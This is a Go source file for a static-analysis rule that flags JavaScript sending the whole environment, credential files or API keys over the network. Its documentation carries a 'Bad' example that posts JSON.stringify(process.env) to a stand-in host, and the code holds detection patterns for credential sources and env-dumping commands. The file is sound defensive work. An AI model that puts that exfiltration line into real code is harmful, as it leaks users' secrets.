package rules

import (
	"fmt"
	"sort"
	"strings"

	"github.com/dop251/goja/ast"

	"github.com/skillvet/skillvet/analyzer"
	"github.com/skillvet/skillvet/facts/jsfacts"
	"github.com/skillvet/skillvet/facts/match"
	"github.com/skillvet/skillvet/intel"
)

// JSExfiltration reports JavaScript that sends secrets over the network.
var JSExfiltration = register(&analyzer.Rule{
	ID:       "SV201",
	Name:     "js-secret-exfiltration",
	Title:    "JavaScript sends the environment or credential files over the network",
	Severity: Critical,
	Category: analyzer.CatExfiltration,
	Tags:     []string{"security", "CWE-200", "CWE-522"},
	Inputs:   analyzer.InJS,
	Doc: `Data flows, within one JavaScript or TypeScript file, from a secret source to a
network sink.

Sources: the **whole** environment (` + "`process.env`" + ` itself, ` + "`JSON.stringify(process.env)`" + `, spread,
` + "`Object.entries/keys/values`" + `, for-in), credential files (SSH keys, cloud and CLI tokens,
` + "`.npmrc`" + `, ` + "`.env`" + `, browser and wallet stores — paths built with ` + "`os.homedir()`" + ` and
` + "`path.join`" + ` are folded), and listings of the home directory. Single named variables
(` + "`process.env.OPENAI_API_KEY`" + `) are tracked by name, and so is one variable picked out of a
` + "`.env`" + ` file by name (` + "`text.match(/OPENAI_API_KEY=(.+)/)`" + `; a global match is the whole file). The
environment given to a child process (` + "`execSync(cmd, {env: {...process.env}})`" + `) is not its output,
unless the command prints it (` + "`printenv`" + `, ` + "`env`" + `).

Sinks: ` + "`fetch`" + `, ` + "`http(s).request/get`" + ` and their ` + "`write/end`" + `, axios, got, node-fetch, ` + "`net`/`tls`" + `
sockets, WebSocket ` + "`send`" + `, ` + "`dgram`" + `, and DNS lookups with data in the name.

- **critical**: the whole environment, a credential file or a home listing reaches a
  sink; or a named key is sent to a paste site, tunnel, request catcher or raw IP;
- **medium**: a named key goes to a host that is not its vendor's (` + "`OPENAI_API_KEY`" + ` to
  a non-OpenAI host) or over plain HTTP;
- nothing: a named key sent to its own vendor, a well-known API host or an allowlisted
  host over HTTPS — that is ordinary API use.

**Fix:** send only the variable the API needs, to the API that issued it.

Bad:

` + "```js" + `
fetch('https://hook.example.net/c', { method: 'POST', body: JSON.stringify(process.env) });
` + "```" + `

Good:

` + "```js" + `
fetch('https://api.openai.com/v1/models', {
  headers: { Authorization: ` + "`Bearer ${process.env.OPENAI_API_KEY}`" + ` } });
` + "```",
	Run: runJSExfiltration,
})

// jsSecrets is what flows into one sink.
type jsSecrets struct {
	wholeEnv bool
	credFile string
	homeList bool
	keys     map[string]bool
	// children are the child-process calls whose arguments were followed:
	// each once, however the flow comes back to it
	children map[*ast.CallExpression]bool
	pending  []ast.Expression
}

func (s *jsSecrets) bad() string {
	switch {
	case s.wholeEnv:
		return "the whole environment"
	case s.credFile != "":
		return s.credFile + " (credential file)"
	case s.homeList:
		return "a listing of the home directory"
	}
	return ""
}

// jsCollectSecrets follows e back to its sources.
func jsCollectSecrets(v *jsfacts.View, e ast.Expression, s *jsSecrets) {
	// what a child process's arguments carry is followed after this walk,
	// from a work list: no walk nests inside another
	s.pending = append(s.pending[:0], e)
	for len(s.pending) > 0 {
		e := s.pending[len(s.pending)-1]
		s.pending = s.pending[:len(s.pending)-1]
		jsCollectFrom(v, e, s)
	}
}

func jsCollectFrom(v *jsfacts.View, e ast.Expression, s *jsSecrets) {
	v.Info.Reach(e, func(x ast.Expression) bool {
		switch x.(type) {
		case *ast.DotExpression, *ast.BracketExpression, *ast.Identifier:
			r := v.Info.Resolve(x)
			if r == "process.env" {
				s.wholeEnv = true
				return false
			}
			if k, ok := strings.CutPrefix(r, "process.env."); ok {
				s.keys[k] = true
				return false
			}
			if b, ok := x.(*ast.BracketExpression); ok && v.Info.Resolve(b.Left) == "process.env" {
				if k, ok := v.Info.Str(b.Member); ok {
					s.keys[k] = true
				} else if jsKeyFromEnv(v, b.Member) {
					s.wholeEnv = true // process.env[k] for every k it holds
				} else if id, ok := b.Member.(*ast.Identifier); ok {
					// requireEnv(name) called with "KAPSO_API_KEY", a loop
					// over ["KIBANA_API_KEY", …]: named variables; a name
					// built or chosen at run time is one variable
					if ks, ok := v.Info.KeyStrings(id); ok {
						for _, k := range ks {
							s.keys[k] = true
						}
					}
				}
				return false
			}
		case *ast.CallExpression:
			c := x.(*ast.CallExpression)
			if jsfacts.ChildProcessCall(v.Callee(c)) != "" {
				if s.children[c] {
					return false // its arguments are being followed already
				}
				s.children[c] = true
				// a child's output carries its command and input, not the
				// environment it is given (execSync(cmd, {env: {...process.env}})),
				// unless the command prints its environment
				if len(c.ArgumentList) > 0 {
					if cmd, ok := v.Info.Str(c.ArgumentList[0]); ok && jsPrintsEnvRx.MatchString(cmd) {
						s.wholeEnv = true
						return false
					}
				}
				for _, a := range c.ArgumentList {
					if o, ok := a.(*ast.ObjectLiteral); ok {
						for _, pr := range o.Value {
							if kv, ok := pr.(*ast.PropertyKeyed); ok {
								if k, ok := v.Info.Str(kv.Key); ok && k == "env" {
									continue
								}
							}
							if _, ok := pr.(*ast.SpreadElement); ok {
								continue // ...opts: the options, spread
							}
							if kv, ok := pr.(*ast.PropertyKeyed); ok {
								s.pending = append(s.pending, kv.Value)
							}
						}
						continue
					}
					s.pending = append(s.pending, a)
				}
				return false
			}
			if k := jsDotenvField(v, c); k != "" {
				// one variable picked out of a dotenv file by name: that
				// key, judged like process.env.<k>, not the file
				s.keys[k] = true
				return false
			}
			if label, ok := v.CredRead(c); ok && s.credFile == "" {
				s.credFile = label
			} else if label, ok := v.CredList(c); ok && s.credFile == "" && !jsfacts.MediumCreds[label] && label != "browser profile" {
				s.credFile = label
			}
			if v.HomeWalk(c) {
				s.homeList = true
			}
		}
		return true
	})
}

// jsKeyFromEnv reports a computed key that walks the environment itself
// (for (k in process.env), Object.keys(process.env).map(k => …)): the
// whole environment is read, not one variable.
// jsPrintsEnvRx: a command line that prints the whole environment.
var jsPrintsEnvRx = match.MustRx(`^\s*(?:env|printenv|set|export -p|declare -x|Get-ChildItem env:|gci env:)\s*(?:$|[|;&>])`)

// jsDotenvNameRx: a regexp that picks one NAME=value line
// (/LATENTPRESS_API_KEY=(.+)/, /^OPENAI_API_KEY\s*=\s*(.*)$/m).
var jsDotenvNameRx = match.MustRx(`^\^?(?:\(\?:)?(?:export\\s[*+])?([A-Za-z_][A-Za-z0-9_]{2,})(?:\\s[*+])?=`)

// jsDotenvField returns the variable that c picks out of a dotenv file's
// content by name (content.match(/NAME=(.+)/), /NAME=(.*)/.exec(content)),
// or "" when c is not that.
func jsDotenvField(v *jsfacts.View, c *ast.CallExpression) string {
	dot, ok := c.Callee.(*ast.DotExpression)
	if !ok || len(c.ArgumentList) != 1 {
		return ""
	}
	var rx *ast.RegExpLiteral
	var text ast.Expression
	switch dot.Identifier.Name.String() {
	case "match":
		rx, _ = c.ArgumentList[0].(*ast.RegExpLiteral)
		text = dot.Left
	case "exec":
		rx, _ = dot.Left.(*ast.RegExpLiteral)
		text = c.ArgumentList[0]
	}
	if rx == nil || strings.Contains(rx.Flags, "g") {
		return "" // a global match returns every line
	}
	m := jsDotenvNameRx.FindStringSubmatch(rx.Pattern)
	if m == nil {
		return ""
	}
	dotenv := false
	v.Info.Reach(text, func(x ast.Expression) bool {
		if dotenv {
			return false
		}
		if r, ok := x.(*ast.CallExpression); ok {
			if label, ok := v.CredRead(r); ok {
				dotenv = label == "dotenv file"
				return false
			}
		}
		return true
	})
	if !dotenv {
		return ""
	}
	return m[1]
}

func jsKeyFromEnv(v *jsfacts.View, key ast.Expression) bool {
	found := false
	v.Info.Reach(key, func(x ast.Expression) bool {
		if found {
			return false
		}
		switch x.(type) {
		case *ast.DotExpression, *ast.Identifier:
			if v.Info.Resolve(x) == "process.env" {
				found = true
				return false
			}
		}
		return true
	})
	return found
}

// sinkCalls finds network sinks: the call, the data arguments, and the call
// that opened the connection (for destination).
type jsSinkUse struct {
	at   ast.Node
	data []ast.Expression
	open *ast.CallExpression
	kind string
	host ast.Expression // destination given at send time (dgram)
}

func jsSinks(v *jsfacts.View) []jsSinkUse {
	var out []jsSinkUse
	opener := func(e ast.Expression) (*ast.CallExpression, string) {
		var oc *ast.CallExpression
		var kind string
		v.Info.Reach(e, func(x ast.Expression) bool {
			if oc != nil {
				return false
			}
			switch x := x.(type) {
			case *ast.CallExpression:
				if k := jsfacts.IsNetCall(v.Callee(x)); k != "" {
					oc, kind = x, k
					return false
				}
			case *ast.NewExpression:
				if k := jsfacts.IsNetCall(jsfacts.NormMod(v.Info.Resolve(x.Callee))); k != "" {
					oc = &ast.CallExpression{Callee: x.Callee, ArgumentList: x.ArgumentList, LeftParenthesis: x.LeftParenthesis, RightParenthesis: x.RightParenthesis}
					kind = k
					return false
				}
			}
			return true
		})
		return oc, kind
	}
	for _, c := range v.Info.Calls() {
		callee := v.Callee(c)
		if k := jsfacts.IsNetCall(callee); k != "" {
			out = append(out, jsSinkUse{at: c, data: c.ArgumentList, open: c, kind: k})
			continue
		}
		dot, ok := c.Callee.(*ast.DotExpression)
		if !ok || len(c.ArgumentList) == 0 {
			continue
		}
		switch dot.Identifier.Name.String() {
		case "write", "end", "send", "emit", "post", "put", "patch":
			if oc, kind := opener(dot.Left); oc != nil {
				su := jsSinkUse{at: c, data: c.ArgumentList, open: oc, kind: kind}
				if kind == "module:dgram.createSocket" && len(c.ArgumentList) > 2 {
					// socket.send(msg, [offset, length,] port, address)
					su.data = c.ArgumentList[:1]
					su.host = c.ArgumentList[len(c.ArgumentList)-1]
					if _, fn := su.host.(*ast.ArrowFunctionLiteral); fn {
						su.host = c.ArgumentList[len(c.ArgumentList)-2]
					}
				}
				out = append(out, su)
			}
		}
	}
	for _, n := range v.Info.News() {
		callee := jsfacts.NormMod(v.Info.Resolve(n.Callee))
		if k := jsfacts.IsNetCall(callee); k != "" {
			oc := &ast.CallExpression{Callee: n.Callee, ArgumentList: n.ArgumentList, LeftParenthesis: n.LeftParenthesis, RightParenthesis: n.RightParenthesis}
			out = append(out, jsSinkUse{at: n, data: n.ArgumentList, open: oc, kind: k})
		}
	}
	return out
}

func runJSExfiltration(p *analyzer.Pass) error {
	v := jsfacts.Of(p)
	if v == nil {
		return nil
	}
	for _, s := range jsSinks(v) {
		if err := v.Pass.Context().Err(); err != nil {
			return err
		}
		sec := &jsSecrets{keys: map[string]bool{}, children: map[*ast.CallExpression]bool{}}
		for _, d := range s.data {
			jsCollectSecrets(v, d, sec)
		}
		dst := v.Dest(s.open, v.Callee(s.open))
		if s.host != nil {
			if h, ok := v.Info.Str(s.host); ok {
				dst = v.HostDest(h, false)
			}
		}
		where := "a computed destination"
		if dst.Known {
			where = dst.Host
			if dst.Class != intel.HostUnknown {
				where += " (" + dst.Class.String() + ")"
			}
		}
		if strings.HasPrefix(s.kind, "module:dns.") {
			where = "a DNS lookup (data in the queried name)"
		}
		if what := sec.bad(); what != "" {
			v.Report(s.at, Critical, fmt.Sprintf("sends %s to %s", what, where))
			continue
		}
		if len(sec.keys) == 0 {
			continue
		}
		keys := make([]string, 0, len(sec.keys))
		for k := range sec.keys {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		if strings.HasPrefix(s.kind, "module:dns.") {
			v.Report(s.at, High, fmt.Sprintf("sends %s in %s", strings.Join(keys, ", "), where))
			continue
		}
		if sev, why := jsGradeKeySend(v, keys, dst); sev > 0 {
			v.Report(s.at, sev, fmt.Sprintf("sends %s to %s%s", strings.Join(keys, ", "), where, why))
		}
	}
	return nil
}

func jsGradeKeySend(v *jsfacts.View, keys []string, dst jsfacts.Destination) (analyzer.Severity, string) {
	if !dst.Known {
		return 0, ""
	}
	if dst.Class.Suspicious() {
		return Critical, ""
	}
	if dst.Class == intel.HostLoopback || dst.Class == intel.HostPrivate {
		return 0, ""
	}
	for _, k := range keys {
		if vd := intel.KeyVendor(k); vd != nil && !intel.HostMatchesVendor(dst.Host, vd) && !v.Pass.Config.HostAllowed(dst.Host) {
			return Medium, fmt.Sprintf(", which is not the vendor the key %s belongs to", k)
		}
	}
	if !dst.HTTPS && dst.URL != "" {
		return Medium, " over plain HTTP"
	}
	return 0, ""
}
